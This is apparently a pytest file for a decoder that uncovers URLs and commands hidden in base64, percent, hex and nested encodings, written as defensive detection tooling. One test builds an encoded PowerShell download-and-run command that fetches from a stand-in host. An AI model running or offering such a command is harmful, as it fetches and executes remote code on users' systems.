"""Decoding of runs: what stands in another encoding is found, at any depth that is looked into, with bounded work."""

from __future__ import annotations

from base64 import b64encode, urlsafe_b64encode
from urllib.parse import quote

import pytest

from tocsin.matching.encoded import pieces

URL = "http://evil.example/a?b=1"


def of(text: str) -> dict[str, str]:
    """Return what was found, by how it was encoded."""
    return {each.how: each.text for each in pieces(text)}


@pytest.mark.parametrize("length", range(3))
def test_base64_of_every_length_with_and_without_padding(length: int) -> None:
    plain = URL + "x" * length
    padded = b64encode(plain.encode()).decode()
    for text in (padded, padded.rstrip("="), f'q="{padded}" end', f"key={padded}"):
        assert of(text)["base64"] == plain


def test_both_alphabets_of_base64() -> None:
    plain = "~~~???>>>" + URL
    assert b64encode(plain.encode()) != urlsafe_b64encode(plain.encode())
    for encode in (b64encode, urlsafe_b64encode):
        assert plain in [each.text for each in pieces(encode(plain.encode()).decode())]


def test_base64_as_the_last_part_of_a_path() -> None:
    found = [each.text for each in pieces(f"GET /go/v1/{b64encode(URL.encode()).decode()} HTTP/1.1")]
    assert URL in found


def test_percent_and_hexadecimal() -> None:
    assert of(f"GET /?u={quote(URL, safe='')}&x=1") == {"percent": f"/?u={URL}&x=1"}
    assert of("evil%2Dprobe.example")["percent"] == "evil-probe.example"
    assert of(URL.encode().hex())["hex"] == URL
    assert of(f"0x{URL.encode().hex().upper()},")["hex"] == URL
    assert of("".join(f"\\x{byte:02x}" for byte in URL.encode()))["hex"] == URL


def test_a_command_of_powershell_is_utf_16() -> None:
    command = f"IEX (New-Object Net.WebClient).DownloadString('{URL}')"
    assert of(f"powershell -enc {b64encode(command.encode('utf-16-le')).decode()}")["base64"] == command


def test_what_is_padded_with_nuls_is_no_utf_16() -> None:
    text = "\0" * 300 + "http://site.example/index.html"
    assert of(b64encode(text.encode()).decode())["base64"] == text


def test_one_in_another() -> None:
    inner = b64encode(URL.encode()).decode()
    assert of(quote(inner, safe="").replace("a", "%61"))["percent|base64"] == URL
    assert of(b64encode(inner.encode()).decode())["base64|base64"] == URL


@pytest.mark.parametrize(
    "text",
    [
        "",
        "a plain line of a log",
        "%",
        "%zz %4",
        "0x",
        "\\x41",
        "=" * 99,
        "\udcff%41\udcfe",
        "\ud800%41",
        "%00%FF",
    ],
)
def test_nothing_of_it_is_an_error(text: str) -> None:
    list(pieces(text))


@pytest.mark.parametrize("part", ["A", "/", "QUFB/", "41", "%41", "\\x41", "%25", "-_"])
def test_no_more_comes_of_a_text_than_some_times_its_length(part: str) -> None:
    text = part * 20_000
    assert sum(len(each.text) for each in pieces(text)) <= 8 * len(text)
